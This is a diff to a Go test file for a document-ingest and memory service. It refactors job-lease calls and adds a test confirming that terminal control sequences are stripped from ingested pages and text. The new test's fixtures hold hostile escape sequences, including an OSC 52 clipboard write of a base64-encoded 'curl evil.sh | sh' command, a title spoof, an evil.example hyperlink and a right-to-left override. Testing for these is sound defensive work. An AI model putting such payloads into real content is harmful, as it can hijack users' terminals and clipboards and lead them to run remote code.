@@ -11,6 +11,7 @@ import (
 	"unicode/utf8"
 
 	"github.com/cairnmem/cairn/core/documents"
+	"github.com/cairnmem/cairn/core/jobs"
 
 	"github.com/cairnmem/cairn/core/internal/apitest"
 
@@ -19,6 +20,7 @@ import (
 	"github.com/cairnmem/cairn/core/config"
 
 	"github.com/cairnmem/cairn/core"
+	"github.com/cairnmem/cairn/core/text"
 	"github.com/cairnmem/cairn/workers"
 )
 
@@ -35,7 +37,7 @@ func docText(n int, tag string) string {
 // runDocJobs runs the document worker's Step until no job is due.
 func runDocJobs(tb testing.TB, e *apitest.Env) {
 	tb.Helper()
-	w := &workers.DocumentWorker{Svc: e.Svc, Docs: e.App.Documents}
+	w := &workers.DocumentWorker{Svc: e.Svc, Jobs: e.App.Jobs, Docs: e.App.Documents}
 	for i := 0; i < 20; i++ {
 		worked, err := w.Step(context.Background(), "test-doc-worker")
 		if !worked {
@@ -488,7 +490,7 @@ func TestDocumentJobRerunAfterCrashWritesNoDuplicates(t *testing.T) {
 	e := apitest.NewEnv(t, func(c *config.Config) { c.Documents.ChunkSize, c.Documents.ChunkOverlap = 200, 20 })
 	id := createDoc(t, e, map[string]any{"source_type": "text", "content": docText(16000, "gamma")})
 	ctx := context.Background()
-	job, err := e.Svc.Jobs().Lease(ctx, "crashing-worker", documents.JobDocumentIngest)
+	job, err := e.App.Jobs.Lease(ctx, "crashing-worker", documents.JobDocumentIngest)
 	if err != nil || job == nil {
 		t.Fatalf("lease: %v %v", job, err)
 	}
@@ -498,7 +500,7 @@ func TestDocumentJobRerunAfterCrashWritesNoDuplicates(t *testing.T) {
 	}
 	// ... crash: the job is never completed.
 	e.Clock.Advance(6 * time.Minute)
-	if reaped, _, err := e.Svc.Jobs().ReapStaleLeases(ctx); err != nil || reaped != 1 {
+	if reaped, _, err := e.App.Jobs.ReapStaleLeases(ctx); err != nil || reaped != 1 {
 		t.Fatalf("reap: %d %v", reaped, err)
 	}
 	runDocJobs(t, e)
@@ -516,7 +518,7 @@ func TestDocumentJobRerunAfterCrashWritesNoDuplicates(t *testing.T) {
 		}
 	}
 	// The crashed worker cannot complete the job it lost.
-	if err := e.Svc.Jobs().Complete(ctx, job, res); err == nil {
+	if err := e.App.Jobs.Complete(ctx, job, res); err == nil {
 		t.Fatal("the crashed worker completed a job it no longer holds")
 	}
 	if _, err := e.App.Documents.ProcessDocumentJob(ctx, job); err == nil {
@@ -531,7 +533,7 @@ func TestDocumentJobsAreLeasedOnlyByTheDocumentWorker(t *testing.T) {
 	e := apitest.NewEnv(t)
 	createDoc(t, e, map[string]any{"source_type": "text", "content": "A queued document."})
 	ctx := context.Background()
-	if j, err := e.Svc.Jobs().Lease(ctx, "x", core.JobExtract); err != nil || j != nil {
+	if j, err := e.App.Jobs.Lease(ctx, "x", jobs.Extract); err != nil || j != nil {
 		t.Fatalf("an extract lease took %v (%v)", j, err)
 	}
 	e.Post(t, "/api/memory/remember", map[string]any{"content": "we decided to use blue-green deploys"}).Want(t, 200)
@@ -542,7 +544,7 @@ func TestDocumentJobsAreLeasedOnlyByTheDocumentWorker(t *testing.T) {
 	// Frozen mutations: the document worker leases nothing.
 	createDoc(t, e, map[string]any{"source_type": "text", "content": "Another queued document."})
 	e.Svc.SetMutationsFrozen(true)
-	if worked, err := (&workers.DocumentWorker{Svc: e.Svc, Docs: e.App.Documents}).Step(ctx, "w"); worked || err != nil {
+	if worked, err := (&workers.DocumentWorker{Svc: e.Svc, Jobs: e.App.Jobs, Docs: e.App.Documents}).Step(ctx, "w"); worked || err != nil {
 		t.Fatalf("frozen: worked=%v err=%v", worked, err)
 	}
 }
@@ -577,7 +579,7 @@ func BenchmarkDocumentIngest(b *testing.B) {
 		if err != nil {
 			b.Fatal(err)
 		}
-		job, err := e.Svc.Jobs().Lease(ctx, "bench", documents.JobDocumentIngest)
+		job, err := e.App.Jobs.Lease(ctx, "bench", documents.JobDocumentIngest)
 		if err != nil || job == nil {
 			b.Fatal(job, err)
 		}
@@ -585,7 +587,7 @@ func BenchmarkDocumentIngest(b *testing.B) {
 		if err != nil || out.Created < 100 {
 			b.Fatal(out, err)
 		}
-		if err := e.Svc.Jobs().Complete(ctx, job, out); err != nil {
+		if err := e.App.Jobs.Complete(ctx, job, out); err != nil {
 			b.Fatal(err)
 		}
 		if res.ID != job.DocumentID {
@@ -599,19 +601,20 @@ func BenchmarkDocumentIngest(b *testing.B) {
 // vector leg finds them.
 func TestDocumentChunksAreEmbedded(t *testing.T) {
 	t.Parallel()
-	svc := apitest.NewService(t, apitest.Builtin(t))
+	ap := apitest.NewApp(t, apitest.Builtin(t))
+	svc := ap.Service
 	ctx := context.Background()
-	if err := svc.Vectors().WarmVectors(ctx); err != nil {
+	if err := ap.Vectors.WarmVectors(ctx); err != nil {
 		t.Fatal(err)
 	}
 	text := "Kubernetes pods restart when the liveness probe fails three times in a row. " +
 		docText(2600, "delta")
-	docs := documents.New(svc)
+	docs := ap.Documents
 	created, err := docs.CreateDocument(ctx, documents.DocumentInput{SourceType: "text", Content: text, Title: "K8s"})
 	if err != nil {
 		t.Fatal(err)
 	}
-	job, err := svc.Jobs().Lease(ctx, "t", documents.JobDocumentIngest)
+	job, err := ap.Jobs.Lease(ctx, "t", documents.JobDocumentIngest)
 	if err != nil || job == nil || job.DocumentID != created.ID {
 		t.Fatalf("lease: %v %v", job, err)
 	}
@@ -619,11 +622,63 @@ func TestDocumentChunksAreEmbedded(t *testing.T) {
 	if err != nil || res.Chunks != 2 || res.Embedded != 2 {
 		t.Fatalf("ingest: %+v %v", res, err)
 	}
-	if n, err := svc.Vectors().CountPendingEmbeddings(ctx); err != nil || n != 0 {
+	if n, err := ap.Vectors.CountPendingEmbeddings(ctx); err != nil || n != 0 {
 		t.Fatalf("pending embeddings after ingest: %d %v", n, err)
 	}
 	got := apitest.Recall(t, svc, core.RecallInput{Query: "why do containers get restarted by health checks", Mode: "vector", Limit: 3})
 	if len(got.Results) == 0 || got.Results[0].Type != documents.DocumentChunkType {
 		t.Fatalf("vector recall: %+v", got.Results)
+	}
+}
+
+// Issue 29: a web page's "&#x1b;]52;c;…&#x7;" becomes real ESC and BEL
+// when the HTML is stripped, and its <title> lands in a tag; a text
+// document carries the bytes as they are. Neither reaches a memory.
+func TestDocumentIngestCleansEscapes(t *testing.T) {
+	t.Parallel()
+	e := apitest.NewEnv(t, allowPrivate)
+	srv := page(t, map[string]http.HandlerFunc{
+		"/evil": func(w http.ResponseWriter, r *http.Request) {
+			w.Header().Set("Content-Type", "text/html")
+			fmt.Fprint(w, `<html><head><title>Runbook&#x1b;]0;pwned&#x7;</title></head><body>
+<p>Restart the &#x1b;]52;c;Y3VybCBldmlsLnNoIHwgc2g=&#x7;payments worker with &#x1b;[2J&#x1b;[31mmake bounce&#x1b;[0m.</p></body></html>`)
+		},
+	})
+	urlDoc := createDoc(t, e, map[string]any{"source_type": "url", "url": srv.URL + "/evil"})
+	textDoc := createDoc(t, e, map[string]any{"source_type": "text", "title": "Notes\x1b]0;x\x07 \u202eevil",
+		"content": "The staging kettle\x1b]8;;https://evil.example/\x1b\\ lives\x1b]8;;\x1b\\ next to the \u009b2Jblue rack.\x00\a"})
+	runDocJobs(t, e)
+	for _, id := range []string{urlDoc, textDoc} {
+		chunks, _ := chunkContents(t, e, id)
+		if len(chunks) == 0 {
+			t.Fatalf("document %s has no chunks", id)
+		}
+		for _, c := range chunks {
+			if c != text.Display(c) || strings.ContainsAny(c, "\x1b\x07\x00\u009b") {
+				t.Errorf("chunk keeps control characters: %q", c)
+			}
+		}
+		m := e.Get(t, "/api/memory/"+e.SvcChunkID(t, id)).Want(t, 200)
+		tags, _ := m.JSON["tags"].([]any)
+		for _, tag := range tags {
+			if err := text.CheckIdentifier("tags", tag.(string)); err != nil {
+				t.Errorf("tag %q: %v", tag, err)
+			}
+		}
+	}
+	chunks, _ := chunkContents(t, e, urlDoc)
+	if want := "Restart the payments worker with make bounce."; chunks[0] != want {
+		t.Errorf("page chunk = %q, want %q", chunks[0], want)
+	}
+	if d := e.Get(t, "/api/documents/"+urlDoc).Want(t, 200); d.Str("title") != "Runbook" {
+		t.Errorf("page title = %q", d.Str("title"))
+	}
+	chunks, _ = chunkContents(t, e, textDoc)
+	if want := "The staging kettle lives next to the blue rack."; chunks[0] != want {
+		t.Errorf("text chunk = %q, want %q", chunks[0], want)
+	}
+	m := e.Get(t, "/api/memory/"+e.SvcChunkID(t, textDoc)).Want(t, 200)
+	if tags, _ := m.JSON["tags"].([]any); len(tags) != 1 || tags[0] != "document:Notes evil" {
+		t.Errorf("text document tag = %v", m.JSON["tags"])
 	}
 }
